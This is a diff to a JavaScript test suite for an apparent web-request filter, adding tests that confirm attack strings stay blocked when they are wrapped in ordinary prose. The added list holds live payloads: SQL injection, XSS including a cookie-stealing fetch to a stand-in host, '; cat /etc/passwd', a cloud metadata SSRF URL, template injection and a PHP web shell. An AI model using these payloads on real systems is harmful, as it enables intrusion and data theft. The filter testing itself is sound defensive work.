@@ -84,8 +84,8 @@ test('ordinary requests pass without a finding', () => {
   assert.deepEqual(found(script), []);
 });
 
-test('in a longer text of a body a finding is noted and does not block; in a query it blocks', () => {
-  const text = `I have a question about the following code, which I found in an old book about web pages and do not understand at all, so please help me with it. <script>alert(1)</script>`;
+test('in a longer text of a body code is noted and does not block; in a query it blocks', () => {
+  const text = `I have a question about the following code, which I found in an old book about web pages and do not understand at all, so please help me with it. <button onclick="doSave()">Save</button>`;
   const script = posted('application/json', JSON.stringify({ text })).end();
   assert.equal(script.last?.kind, 'requestBody');
   assert.deepEqual(
@@ -136,3 +136,27 @@ test('detect finds in every place and says each rule once; secrets do not become
   assert.equal(new Set(ids).size, ids.length);
   assert.ok(!JSON.stringify(found(script)).includes('hunter2'));
 });
+
+const words =
+  'We were very happy with the room and the people were friendly, so that we shall come back next summer with the whole family and with some of our friends, if the weather is as good as it was this year. ';
+for (const attack of [
+  "x' union select card, pin from customers -- ",
+  "' or '1'='1",
+  '<img src=x onerror=alert(1)>',
+  '<script>fetch("//host.example/?"+document.cookie)</script>',
+  '; cat /etc/passwd',
+  'http://169.254.169.254/latest/meta-data/iam/',
+  '{{7*7}}',
+  "<?php system($_GET['c']); ?>",
+]) {
+  test(`words around an attack do not help it: ${attack}`, () => {
+    for (const text of [
+      words + attack,
+      `${words}${attack} ${words}`,
+      `one\ntwo\nthree\n${attack}\n${words}`,
+    ]) {
+      const status = posted('application/json', JSON.stringify({ text })).end().last?.status;
+      assert.equal(status, 403, text);
+    }
+  });
+}
